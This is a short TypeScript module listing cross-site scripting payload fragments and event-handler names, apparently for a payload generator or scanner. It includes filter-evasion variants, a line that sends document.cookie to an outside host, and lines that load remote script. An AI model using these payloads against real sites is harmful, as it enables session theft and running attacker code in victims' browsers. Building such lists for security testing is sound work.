import { elsewhere } from './mark.ts';

/** What a script of a payload does, and what makes it run. */

export const runs = [
  ...[
    'alert(1)',
    'alert`1`',
    "top['al'+'ert'](1)",
    'confirm(1)',
    'self.print()',
    'prompt`x`',
    'throw onerror=alert,1',
  ],
  ...[`import('//${elsewhere}/x.js')`, `fetch('https://${elsewhere}/?c='+document.cookie)`],
  ...[`location='https://${elsewhere}/'`, `new Image().src='//${elsewhere}/i'`, `open('//${elsewhere}')`],
];

export const handlers = [
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onstart'],
  ...[
    'onpointerenter',
    'onbeforematch',
    'oncontentvisibilityautostatechange',
    'ONERROR',
    'OnLoad',
    'onscrollend',
  ],
];
